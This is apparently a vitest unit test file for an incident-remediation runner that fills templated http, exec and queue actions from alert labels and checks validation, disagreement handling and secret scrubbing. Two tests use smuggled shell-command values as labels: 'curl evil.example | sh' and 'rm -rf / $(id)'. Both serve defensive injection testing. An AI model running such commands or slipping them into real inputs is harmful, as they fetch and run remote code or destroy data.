import { writeFile } from 'node:fs/promises';
import type { Redis } from 'ioredis';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { runRemediation } from '../../../src/actions/run-remediation.js';
import { actionSchema, type ActionConfig } from '../../../src/config/action-schema.js';
import { createFakeRemediationProgram, type FakeRemediationProgram } from '../../support/fake-remediation-program.js';
import { randomSecret } from '../../support/test-redis.js';
import { makeAlert, makeIncident } from './incident-fixture.js';

const HOST = '^[A-Za-z0-9.:_-]{1,253}$';
const PERMISSIVE = '^[\\s\\S]*$';

/** No Redis in unit tests: a queue action that gets this far would fail loudly. */
const noRedis = new Proxy({}, { get: () => { throw new Error('Redis used in a unit test'); } }) as unknown as Redis;

interface Sent {
  url: string;
  method: string;
  headers: Headers;
  body: string | undefined;
}

/** A fetch that records each request and answers with `status`. */
function recordingFetch(status = 202, text = '{"ok":true}') {
  const sent: Sent[] = [];
  const fake = (async (input: string | URL | Request, init?: RequestInit) => {
    sent.push({ url: String(input), method: init?.method ?? 'GET', headers: new Headers(init?.headers), body: typeof init?.body === 'string' ? init.body : undefined });
    return new Response(text, { status, headers: { 'content-type': 'application/json' } });
  }) as typeof fetch;
  return { fetch: fake, sent };
}

const block = actionSchema.parse({
  kind: 'http',
  phase: 'isolate',
  title: 'Block host',
  params: { 'labels.instance': HOST },
  request: { url: 'https://fw.example/api/hosts/{{ labels.instance }}/block', body: { host: '{{ labels.instance }}', incident: '{{ incident.key }}' } },
});

let program: FakeRemediationProgram;
let isolate: ActionConfig;

beforeAll(async () => {
  program = await createFakeRemediationProgram();
  isolate = actionSchema.parse({ kind: 'exec', phase: 'isolate', title: 'Isolate host', argv: program.argv('isolate', '{{ labels.instance }}'), params: { 'labels.instance': PERMISSIVE } });
});

beforeEach(async () => {
  await writeFile(program.recordFile, '');
});

afterAll(async () => {
  await program.remove();
});

const clock = () => {
  let t = 1_000;
  return () => (t += 5);
};

describe('runRemediation', () => {
  it('runs an http action with the firing alert’s labels and the idempotency key', async () => {
    const { fetch, sent } = recordingFetch();
    const alerts = [makeAlert({ instance: 'web-1:9100' }), makeAlert({ instance: 'web-9:9100' }, 'resolved')];
    const result = await runRemediation('block-host', block, makeIncident(), alerts, { idempotencyKey: 'warden-req-1', connection: noRedis, fetch, now: clock() });
    expect(result).toMatchObject({ actionId: 'block-host', title: 'Block host', ok: true, status: 202 });
    expect(sent).toHaveLength(1);
    expect(sent[0]?.url).toBe('https://fw.example/api/hosts/web-1:9100/block');
    expect(sent[0]?.headers.get('idempotency-key')).toBe('warden-req-1');
    expect(JSON.parse(sent[0]!.body!)).toEqual({ host: 'web-1:9100', incident: 'inc-7f3a9c' });
  });

  it('refuses when the firing alerts disagree on a label the action uses, and sends nothing', async () => {
    const { fetch, sent } = recordingFetch();
    const alerts = [makeAlert({ instance: 'web-1:9100' }), makeAlert({ instance: 'web-2:9100' }), makeAlert({ instance: 'web-1:9100', path: '/b' })];
    const result = await runRemediation('block-host', block, makeIncident(), alerts, { idempotencyKey: 'k', connection: noRedis, fetch });
    expect(result).toMatchObject({ ok: false, permanent: true, durationMs: expect.any(Number) });
    expect(result.summary).toBe(
      'not run: the firing alerts disagree — instance has 2 values ("web-1:9100", "web-2:9100"); this remediation targets one value; run it from a narrower alert group',
    );
    expect(sent).toHaveLength(0);
  });

  it('counts an alert without the label as another value', async () => {
    const { fetch, sent } = recordingFetch();
    const result = await runRemediation('block-host', block, makeIncident(), [makeAlert({ instance: 'web-1' }), makeAlert({})], { idempotencyKey: 'k', connection: noRedis, fetch });
    expect(result.summary).toContain('instance has 2 values ("web-1", (missing))');
    expect(sent).toHaveLength(0);
  });

  it('lists at most five values, sanitized', async () => {
    const { fetch } = recordingFetch();
    const alerts = ['a', 'b', 'c', 'd', 'e\nf', 'g', 'h'].map((instance) => makeAlert({ instance }));
    const result = await runRemediation('block-host', block, makeIncident(), alerts, { idempotencyKey: 'k', connection: noRedis, fetch });
    expect(result.summary).toContain('instance has 7 values ("a", "b", "c", "d", "e f", +2 more)');
  });

  it('ignores differences in labels the action does not use', async () => {
    const { fetch, sent } = recordingFetch();
    const alerts = [makeAlert({ instance: 'web-1', path: '/a' }), makeAlert({ instance: 'web-1', path: '/b' })];
    const result = await runRemediation('block-host', block, makeIncident(), alerts, { idempotencyKey: 'k', connection: noRedis, fetch });
    expect(result.ok).toBe(true);
    expect(sent).toHaveLength(1);
  });

  it('uses the incident’s common labels when no alert is firing', async () => {
    const { fetch, sent } = recordingFetch();
    const incident = makeIncident({ commonLabels: { alertname: 'HighErrorRate', instance: 'db-1' } });
    const result = await runRemediation('block-host', block, incident, [makeAlert({ instance: 'web-7' }, 'resolved')], { idempotencyKey: 'k', connection: noRedis, fetch });
    expect(result.ok).toBe(true);
    expect(sent[0]?.url).toBe('https://fw.example/api/hosts/db-1/block');
  });

  it('reports a label that fails its pattern as permanent, with nothing sent', async () => {
    const { fetch, sent } = recordingFetch();
    const result = await runRemediation('block-host', block, makeIncident(), [makeAlert({ instance: 'web-1; curl evil.example | sh' })], { idempotencyKey: 'k', connection: noRedis, fetch });
    expect(result).toMatchObject({ ok: false, permanent: true });
    expect(result.summary).toContain(`not sent: {{ labels.instance }} was rejected`);
    expect(result.summary).toContain(HOST);
    expect(sent).toHaveLength(0);
  });

  it('runs an exec action with the label as one argument and the keys in its environment', async () => {
    const value = 'web-1; rm -rf / $(id) `id`\n"x"';
    const result = await runRemediation('isolate-host', isolate, makeIncident(), [makeAlert({ instance: value })], { idempotencyKey: 'warden-req-9', connection: noRedis });
    expect(result).toMatchObject({ actionId: 'isolate-host', ok: true, status: 0 });
    const runs = await program.runs();
    expect(runs).toHaveLength(1);
    expect(runs[0]?.argv).toEqual(['isolate', value]);
    expect(runs[0]?.env.WARDEN_IDEMPOTENCY_KEY).toBe('warden-req-9');
    expect(runs[0]?.env.WARDEN_INCIDENT_KEY).toBe('inc-7f3a9c');
  });

  it('runs no program when the firing alerts disagree', async () => {
    const alerts = [makeAlert({ instance: 'web-1' }), makeAlert({ instance: 'web-2' })];
    const result = await runRemediation('isolate-host', isolate, makeIncident(), alerts, { idempotencyKey: 'k', connection: noRedis });
    expect(result).toMatchObject({ ok: false, permanent: true });
    expect(await program.runs()).toEqual([]);
  });

  it('dispatches queue actions (refused here before any Redis call)', async () => {
    const stop = actionSchema.parse({ kind: 'queue', phase: 'isolate', title: 'Stop tasks', queue: '{{ labels.queue }}', operation: 'pause', params: { 'labels.queue': PERMISSIVE } });
    const bad = await runRemediation('stop-tasks', stop, makeIncident(), [makeAlert({ queue: 'tasks:*' })], { idempotencyKey: 'k', connection: noRedis });
    expect(bad).toMatchObject({ actionId: 'stop-tasks', ok: false, permanent: true });
    expect(bad.summary).toContain('"tasks:*" is not a BullMQ queue name');
    const own = await runRemediation('stop-tasks', { ...stop, queue: 'notify', prefix: '{warden}' } as ActionConfig, makeIncident(), [], { idempotencyKey: 'k', connection: noRedis, wardenPrefix: '{warden}' });
    expect(own.summary).toContain("Warden's own queues");
  });

  it('delegates http-check and prometheus to the probe runner', async () => {
    const check = actionSchema.parse({ kind: 'http-check', phase: 'recover', title: 'Node health', url: 'http://{{ labels.instance }}/healthz', allowHosts: ['web-1', 'web-2'], params: { 'labels.instance': HOST } });
    const up = recordingFetch(200, 'fine');
    const ok = await runRemediation('node-health', check, makeIncident(), [makeAlert({ instance: 'web-1:9100' })], { idempotencyKey: 'k', connection: noRedis, fetch: up.fetch, now: clock() });
    expect(ok).toMatchObject({ actionId: 'node-health', title: 'Node health', ok: true, durationMs: expect.any(Number) });
    expect(ok.summary).toMatch(/^instance=web-1:9100: HTTP 200 in \d+ ms$/);
    expect(ok.permanent).toBeUndefined();

    const down = recordingFetch(503, 'down');
    const failed = await runRemediation('node-health', check, makeIncident(), [makeAlert({ instance: 'web-1:9100' })], { idempotencyKey: 'k', connection: noRedis, fetch: down.fetch });
    expect(failed).toMatchObject({ ok: false, permanent: false });

    const rejected = await runRemediation('node-health', check, makeIncident(), [makeAlert({ instance: 'web 1' })], { idempotencyKey: 'k', connection: noRedis, fetch: up.fetch });
    expect(rejected).toMatchObject({ ok: false, permanent: true });
    expect(rejected.summary).toContain('not probed: {{ labels.instance }} was rejected');

    const query = actionSchema.parse({ kind: 'prometheus', phase: 'recover', title: 'Error rate', url: 'http://127.0.0.1:9090', query: 'sum(rate(errors_total[5m]))', threshold: 0.1 });
    const answer = recordingFetch(200, JSON.stringify({ status: 'success', data: { resultType: 'vector', result: [{ metric: {}, value: [1, '0.02'] }] } }));
    const rate = await runRemediation('error-rate', query, makeIncident(), [], { idempotencyKey: 'k', connection: noRedis, fetch: answer.fetch });
    expect(rate).toMatchObject({ actionId: 'error-rate', ok: true, summary: '0.02 (threshold 0.1)' });
  });

  it('scrubs configured secrets from what it returns', async () => {
    const secret = randomSecret(32);
    const { fetch } = recordingFetch(500, `{"error":"bad key ${secret}"}`);
    const result = await runRemediation('block-host', block, makeIncident(), [makeAlert({ instance: 'web-1' })], { idempotencyKey: 'k', connection: noRedis, fetch, secrets: [secret] });
    expect(result).toMatchObject({ ok: false, status: 500, permanent: false });
    expect(JSON.stringify(result)).not.toContain(secret);
  });

  it('returns a transient failure, never throws, when the fetch or Redis itself blows up', async () => {
    const fetch = (() => {
      throw new Error('boom');
    }) as unknown as typeof globalThis.fetch;
    const http = await runRemediation('block-host', block, makeIncident(), [makeAlert({ instance: 'web-1' })], { idempotencyKey: 'k', connection: noRedis, fetch });
    expect(http).toMatchObject({ ok: false, permanent: false, summary: 'not completed: request failed' });
    const stop = actionSchema.parse({ kind: 'queue', phase: 'isolate', title: 'Stop tasks', queue: 'tasks', operation: 'pause' });
    const queue = await runRemediation('stop-tasks', stop, makeIncident(), [], { idempotencyKey: 'k', connection: noRedis });
    expect(queue).toMatchObject({ ok: false, permanent: false, summary: 'not paused: Redis error: Redis used in a unit test' });
  });
});
